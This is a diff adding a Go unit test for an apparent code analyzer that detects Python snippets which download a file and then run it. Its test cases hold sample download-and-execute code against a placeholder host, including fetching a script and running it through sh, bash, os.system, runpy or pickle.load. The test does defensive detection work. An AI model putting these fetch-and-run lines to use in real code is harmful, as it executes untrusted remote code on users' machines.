@@ -176,3 +176,29 @@ func TestEnvironmentDumps(t *testing.T) {
 		})
 	}
 }
+
+// TestDownloadedFilesRun: a file the content saves a download to, by
+// urlretrieve or by writing a response, is downloaded code when a process,
+// runpy or a deserializer runs it later; other files are not.
+func TestDownloadedFilesRun(t *testing.T) {
+	for _, tc := range []struct {
+		name, src string
+		want      bool
+	}{
+		{"urlretrieve then sh", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://h.example/x.sh', 'x.sh')\nsubprocess.run(['sh', 'x.sh'])", true},
+		{"urlretrieve temp file", "import urllib.request, subprocess\npath, _ = urllib.request.urlretrieve('https://h.example/x.sh')\nsubprocess.run(['bash', path])", true},
+		{"written response then os.system", "import requests, os\nwith open('t.sh', 'w') as f:\n    f.write(requests.get('https://h.example/t').text)\nos.system('bash t.sh')", true},
+		{"downloaded binary run", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://h.example/t', 'tool')\nsubprocess.run(['./tool'])", true},
+		{"runpy of a download", "import requests, runpy\nopen('b.py', 'w').write(requests.get('https://h.example/b.py').text)\nrunpy.run_path('b.py')", true},
+		{"pickle of a saved download", "import urllib.request, pickle\nurllib.request.urlretrieve('https://h.example/m.pkl', 'm.pkl')\npickle.load(open('m.pkl', 'rb'))", true},
+		{"download only listed", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://h.example/d.csv', 'd.csv')\nsubprocess.run(['wc', '-l', 'd.csv'])", false},
+		{"another file run", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://h.example/d.csv', 'd.csv')\nsubprocess.run(['sh', 'build.sh'])", false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			f, _ := analyzeSrc(tc.src)
+			if got := downloadedExec(f); got != tc.want {
+				t.Errorf("downloaded code run = %v, want %v: %+v", got, tc.want, f.DynamicExec)
+			}
+		})
+	}
+}
